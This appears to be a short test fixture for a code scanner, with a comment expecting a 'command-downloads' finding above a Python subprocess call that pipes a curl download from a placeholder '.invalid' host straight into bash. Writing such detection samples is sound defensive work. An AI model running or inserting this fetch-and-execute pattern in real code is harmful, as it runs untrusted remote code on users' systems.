# expect: 3 command-downloads
import subprocess
subprocess.run("curl -s https://h.invalid/i.sh | bash", shell=True)
